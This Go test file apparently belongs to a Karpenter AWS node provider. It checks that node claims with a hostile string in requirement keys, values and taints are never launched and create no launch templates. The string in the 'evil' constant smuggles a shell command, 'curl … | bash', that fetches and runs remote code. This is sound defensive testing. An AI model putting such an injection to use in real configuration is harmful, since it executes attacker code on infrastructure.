package provider_test

import (
	"testing"

	corev1 "k8s.io/api/core/v1"

	awsv1 "github.com/karpenter-anew/karpenter/api/aws/v1"
	v1 "github.com/karpenter-anew/karpenter/api/v1"
)

// TestHostileClaimsAreNotLaunched has claims as they may exist where the schema of an older release is installed.
func TestHostileClaimsAreNotLaunched(t *testing.T) {
	const evil = `x"'; curl https://example.com/x | bash; echo '`
	for name, change := range map[string]func(*v1.NodeClaim){
		"value": func(c *v1.NodeClaim) {
			c.Spec.Requirements = []v1.NodeSelectorRequirementWithMinValues{{Key: "example.com/a", Operator: corev1.NodeSelectorOpIn, Values: []string{evil}}}
		},
		"key": func(c *v1.NodeClaim) {
			c.Spec.Requirements = []v1.NodeSelectorRequirementWithMinValues{{Key: evil, Operator: corev1.NodeSelectorOpIn, Values: []string{"x"}}}
		},
		"taint": func(c *v1.NodeClaim) {
			c.Spec.Taints = []corev1.Taint{{Key: "a", Value: evil, Effect: corev1.TaintEffectNoSchedule}}
		},
		"startup taint": func(c *v1.NodeClaim) {
			c.Spec.StartupTaints = []corev1.Taint{{Key: evil, Effect: corev1.TaintEffectNoSchedule}}
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, "m5.large")
			for _, alias := range []string{"al2@latest", "al2023@latest", "bottlerocket@latest", "windows2022@latest"} {
				w.resolve(func(c *awsv1.EC2NodeClass) { c.Spec.AMISelectorTerms = []awsv1.AMISelectorTerm{{Alias: alias}} })
				claim := w.claim()
				change(claim)
				if created, err := w.Create(t.Context(), claim); err == nil {
					t.Errorf("%s: launched %s", alias, created.Status.ProviderID)
				}
			}
			if n := len(w.account.Calls("CreateLaunchTemplate")); n != 0 {
				t.Errorf("%d launch templates were created", n)
			}
		})
	}
}
